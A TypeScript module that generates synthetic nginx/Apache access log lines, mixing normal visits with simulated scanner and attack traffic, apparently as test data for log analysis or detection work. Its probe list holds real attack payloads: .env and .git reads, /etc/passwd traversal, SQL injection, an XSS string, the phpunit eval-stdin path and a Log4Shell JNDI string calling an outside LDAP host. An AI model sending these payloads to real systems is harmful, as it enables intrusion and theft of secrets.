import type { Population } from './population.ts'
import { accessDate } from './log-date.ts'
import type { Random } from './random.ts'

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'curl/8.11.0',
]

const tools = [
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)',
  'python-requests/2.32.3',
  'masscan/1.3',
  'Go-http-client/1.1',
  'Mozilla/5.0 zgrab/0.x',
]

type MakePath = (random: Random) => string

const pages: readonly MakePath[] = [
  () => '/',
  () => '/index.html',
  (r) => `/products/${r.below(3000)}`,
  (r) => `/blog/${r.between(2019, 2027)}/${r.below(400)}`,
  (r) => `/search?q=lamp+${r.below(1000)}&page=${r.below(9)}`,
  (r) => `/api/v1/items?id=${r.below(100_000)}`,
  (r) => `/static/app.${r.below(50)}.js`,
  (r) => `/static/site.${r.below(50)}.css`,
  (r) => `/img/${r.below(2000)}.webp`,
  (r) => `/img/thumb/${r.below(2000)}.jpg`,
  () => '/cart',
  () => '/favicon.ico',
]

const probes: readonly MakePath[] = [
  () => '/.env',
  () => '/.git/config',
  () => '/wp-config.php.bak',
  (r) => `/backup_${r.below(100)}.zip`,
  () => '/phpmyadmin/',
  () => '/admin.php',
  () => '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
  () => '/download?file=../../../../etc/passwd',
  (r) => `/item?id=${r.below(100)}%27%20UNION%20SELECT%201,2,3--`,
  (r) => `/item?id=${r.below(100)}+and+sleep(5)`,
  (r) => `/search?q=%3Cscript%3Ealert(${r.below(10)})%3C/script%3E`,
  () => '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  () => '/?x=${jndi:ldap://203.0.113.6/a}',
  (r) => `/scan/${r.below(100_000)}`,
]

/** One line of an access log in the combined format, which nginx and Apache share; Apache's carries the host. */
export function accessLine(
  server: 'nginx' | 'apache',
  random: Random,
  people: Population,
  timeMs: number,
): string {
  const host = server === 'apache' ? 'www.example.com:443 ' : ''
  const request = random.chance(0.8) ? visit(random, people) : attack(random, people)
  const { address, verb, path, status, bytes, referrer, agent } = request
  const asked = `"${verb} ${path} HTTP/${random.chance(0.5) ? '2.0' : '1.1'}"`
  return `${host}${address} - - [${accessDate(timeMs)}] ${asked} ${status} ${bytes} "${referrer}" "${agent}"`
}

interface Request {
  readonly address: string
  readonly verb: string
  readonly path: string
  readonly status: number
  readonly bytes: number
  readonly referrer: string
  readonly agent: string
}

function visit(random: Random, people: Population): Request {
  return {
    address: people.visitor(random),
    verb: random.chance(0.95) ? 'GET' : 'POST',
    path: random.pick(pages)(random),
    status: random.pick([200, 200, 200, 200, 200, 304, 301, 404]),
    bytes: random.between(200, 90_000),
    referrer: random.chance(0.7) ? 'https://www.example.com/' : '-',
    agent: random.pick(browsers),
  }
}

function attack(random: Random, people: Population): Request {
  const guess = random.chance(0.1)
  return {
    address: people.attacker(random),
    verb: guess ? 'POST' : 'GET',
    path: guess ? '/wp-login.php' : random.pick(probes)(random),
    status: guess ? 200 : random.pick([404, 404, 403, 400]),
    bytes: random.between(100, 900),
    referrer: '-',
    agent: random.chance(0.5) ? random.pick(tools) : random.pick(browsers),
  }
}
